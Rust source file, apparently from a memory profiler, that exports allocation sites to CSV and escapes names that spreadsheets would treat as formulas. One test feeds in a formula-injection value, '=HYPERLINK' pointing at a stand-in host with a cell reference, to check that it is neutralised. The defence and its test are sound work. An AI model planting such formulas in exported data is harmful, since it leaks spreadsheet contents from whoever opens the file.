//! One row per allocation site (innermost location) with bytes and allocations live at the
//! view's moment and over the whole run, largest live first.

use super::Sites;
use crate::analysis::totals::Sum;
use crate::report::locations::Location;
use std::collections::HashMap;
use std::io::{self, Write};

pub const HEADER: [&str; 8] = [
    "location",
    "function",
    "file",
    "line",
    "live_bytes",
    "live_allocations",
    "allocated_bytes",
    "allocations",
];

/// Writes the rows.
pub fn write(sites: &Sites, out: &mut dyn Write) -> io::Result<()> {
    let mut by_location: HashMap<Location, (Sum, Sum)> = HashMap::new();
    for s in &sites.list {
        let key = sites.location(s).cloned().unwrap_or_else(Location::unknown);
        let e = by_location.entry(key).or_default();
        e.0.merge(s.live);
        e.1.merge(s.allocated);
    }
    let mut rows: Vec<(Location, (Sum, Sum))> = by_location.into_iter().collect();
    rows.sort_by(|a, b| {
        (b.1 .0.bytes, b.1 .1.bytes)
            .cmp(&(a.1 .0.bytes, a.1 .1.bytes))
            .then_with(|| a.0.label.cmp(&b.0.label))
    });
    let mut w = ::csv::Writer::from_writer(out);
    w.write_record(HEADER).map_err(io_error)?;
    for (l, (live, allocated)) in rows {
        let line = l.line.map(|n| n.to_string()).unwrap_or_default();
        let live_count = live.count;
        w.write_record([
            inert(&l.label).as_ref(),
            inert(l.function.as_deref().unwrap_or("")).as_ref(),
            inert(l.file.as_deref().unwrap_or("")).as_ref(),
            line.as_str(),
            &live.bytes.to_string(),
            &live_count.to_string(),
            &allocated.bytes.to_string(),
            &allocated.count.to_string(),
        ])
        .map_err(io_error)?;
    }
    w.flush()
}

/// The I/O error inside a CSV one as it is (a closed pipe stays one: `| head` is fine).
fn io_error(e: ::csv::Error) -> io::Error {
    match e.into_kind() {
        ::csv::ErrorKind::Io(e) => e,
        other => io::Error::other(format!("{other:?}")),
    }
}

/// A name as a spreadsheet takes it as text: names come from the program (`co_name`, a file
/// name), and a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula
/// to Excel and LibreOffice (`=HYPERLINK(...)`); such a name gets a leading `'`, as OWASP
/// advises.
fn inert(name: &str) -> std::borrow::Cow<'_, str> {
    if name.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{name}").into()
    } else {
        name.into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::export::Site;

    fn loc(f: &str, file: &str, line: u64) -> Location {
        Location {
            function: Some(f.to_string()),
            file: Some(file.to_string()),
            line: Some(line),
            label: format!("{f} at {file}:{line}"),
        }
    }

    #[test]
    fn rows_by_innermost_location_round_trip() {
        let f = loc("f", "a, b.py", 2);
        let g = loc("g", "a, b.py", 5);
        let sites = [
            Site {
                frames: vec![g.clone(), f.clone()],
                allocated: Sum {
                    count: 3,
                    bytes: 300,
                },
                live: Sum {
                    count: 1,
                    bytes: 100,
                },
            },
            Site {
                frames: vec![f.clone()],
                allocated: Sum {
                    count: 2,
                    bytes: 20,
                },
                live: Sum {
                    count: 2,
                    bytes: 20,
                },
            },
            Site {
                frames: vec![g.clone()],
                allocated: Sum { count: 1, bytes: 7 },
                live: Sum::default(),
            },
        ];
        let mut out = Vec::new();
        write(&sites.into_iter().collect(), &mut out).expect("write");
        let mut r = ::csv::Reader::from_reader(out.as_slice());
        assert_eq!(
            r.headers().expect("header").iter().collect::<Vec<_>>(),
            HEADER
        );
        let rows: Vec<Vec<String>> = r
            .records()
            .map(|rec| rec.expect("row").iter().map(str::to_string).collect())
            .collect();
        assert_eq!(
            rows,
            vec![
                vec![
                    "f at a, b.py:2",
                    "f",
                    "a, b.py",
                    "2",
                    "120",
                    "3",
                    "320",
                    "5"
                ],
                vec!["g at a, b.py:5", "g", "a, b.py", "5", "0", "0", "7", "1"],
            ]
        );
    }

    #[test]
    fn names_a_spreadsheet_would_run_are_written_as_text() {
        let evil = loc("=HYPERLINK(\"http://x/?\"&A1)", "@f.py", 2);
        let site = Site {
            frames: vec![evil],
            allocated: Sum { count: 1, bytes: 9 },
            live: Sum { count: 1, bytes: 9 },
        };
        let mut out = Vec::new();
        write(&[site].into_iter().collect(), &mut out).expect("write");
        let mut r = ::csv::Reader::from_reader(out.as_slice());
        let row = r.records().next().expect("a row").expect("row");
        assert_eq!(&row[0], "'=HYPERLINK(\"http://x/?\"&A1) at @f.py:2");
        assert_eq!(&row[1], "'=HYPERLINK(\"http://x/?\"&A1)");
        assert_eq!(&row[2], "'@f.py");
        // Other names as they are.
        assert_eq!(inert("f"), "f");
        assert_eq!(inert("<module>"), "<module>");
    }
}
